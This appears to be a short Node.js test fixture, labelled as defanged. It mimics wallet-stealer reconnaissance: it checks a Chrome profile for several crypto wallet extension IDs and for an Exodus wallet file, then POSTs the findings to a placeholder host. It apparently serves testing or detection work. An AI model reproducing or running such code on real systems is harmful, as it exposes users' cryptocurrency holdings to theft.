const fs = require('fs');
const os = require('os');
const path = require('path');

// Defanged fixture: example.invalid does not resolve.
const ext = path.join(os.homedir(), 'AppData/Local/Google/Chrome/User Data/Default/Local Extension Settings');
const ids = [
  'nkbihfbeogaeaoehlefnkodbefgpgknn',
  'bfnaelmomeimhlpmgjnjophhpkkoljpa',
  'hnfanknocfeofbddgcijnmhnfnkdnaad',
  'ibnejdfjmmkpcnlpebklmnkoeoihofec',
];
const found = ids.filter((id) => fs.existsSync(path.join(ext, id)));
const exodus = path.join(os.homedir(), 'AppData/Roaming/Exodus/exodus.wallet');
fetch('https://collect.example.invalid/w', { method: 'POST', body: JSON.stringify({ found, exodus: fs.existsSync(exodus) }) });
